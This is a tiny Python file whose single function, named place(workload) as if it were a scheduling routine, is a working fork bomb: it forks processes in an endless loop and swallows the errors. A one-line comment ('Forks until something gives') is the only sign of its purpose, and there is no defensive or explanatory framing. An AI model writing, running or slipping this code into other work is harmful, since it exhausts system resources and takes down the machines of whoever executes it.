# Forks until something gives.
import os


def place(workload):
    while True:
        try:
            os.fork()
        except OSError:
            pass
